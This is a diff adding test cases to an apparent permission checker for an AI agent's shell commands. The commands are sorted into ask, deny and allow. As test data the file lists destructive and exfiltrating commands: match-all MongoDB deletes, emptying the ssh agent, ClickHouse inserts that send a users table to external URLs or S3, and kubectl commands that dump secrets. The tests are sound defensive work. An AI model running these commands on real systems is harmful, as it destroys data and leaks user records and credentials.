@@ -299,3 +299,41 @@ describe('cmd59: a pull from a remote the line pointed elsewhere; a fetch judged
     checkEval(w, [['git fetch origin && git rebase origin/main', 'allow']]);
   });
 });
+
+describe('cmd59: match-all MongoDB writes, the ssh agent emptied, ClickHouse table-function inserts, kubectl secrets', () => {
+  const w = suiteRepo(ignoredSecretsRepo);
+
+  it('asked (or refused where the path rules say so)', () =>
+    checkEval(w, [
+      ["mongosh app --eval 'db.users.findAndModify({query: {}, remove: true})'", 'ask'],
+      ["mongosh app --eval 'db.users.findAndModify({remove: true})'", 'ask'],
+      ["mongosh app --eval 'db.users.findAndModify({query: {a: {$exists: true}}, update: {$set: {b: 1}}})'", 'ask'],
+      ["mongosh app --eval 'db.users.findOneAndDelete({})'", 'ask'],
+      ["mongosh app --eval 'db.users.findOneAndDelete()'", 'ask'],
+      ['ssh-add -D', 'ask'],
+      ['ssh-add -qD', 'ask'],
+      ['clickhouse-client -q "INSERT INTO FUNCTION file(\'out.csv\') SELECT * FROM users"', 'ask'],
+      ["clickhouse-client --query \"insert into function url('https://example.invalid/x', 'CSV') select * from users\"", 'ask'],
+      ['clickhouse-client -q "INSERT INTO TABLE FUNCTION s3(\'https://bucket.example.invalid/x.csv\') SELECT * FROM users"', 'ask'],
+      ["clickhouse local -q \"INSERT INTO TABLE FUNCTION file('tests/a.test.ts', 'CSV') SELECT 1\"", 'deny'],
+      ['kubectl describe secret db-creds', 'ask'],
+      ['kubectl describe secrets', 'ask'],
+      ['kubectl describe secret/db-creds -n prod', 'ask'],
+      ['kubectl get secret db-creds -o yaml', 'ask'],
+      ['kubectl get secrets,configmaps -o yaml', 'ask'],
+      ['kubectl get secret db-creds --output=json', 'ask'],
+    ]));
+
+  it('look-alikes stay allowed', () =>
+    checkEval(w, [
+      ["mongosh app --eval 'db.users.findAndModify({query: {_id: 1}, remove: true})'", 'allow'],
+      ["mongosh app --eval 'db.users.findOneAndDelete({_id: 1})'", 'allow'],
+      ['ssh-add -l', 'allow'],
+      ['ssh-add -d ~/.ssh/id_ed25519.pub', 'allow'],
+      ["clickhouse-client -q 'SELECT count() FROM users'", 'allow'],
+      ["clickhouse-client -q 'INSERT INTO users VALUES (1)'", 'allow'],
+      ['kubectl describe pod web-1', 'allow'],
+      ['kubectl get secrets', 'allow'],
+      ['kubectl get pods -o wide', 'allow'],
+    ]));
+});
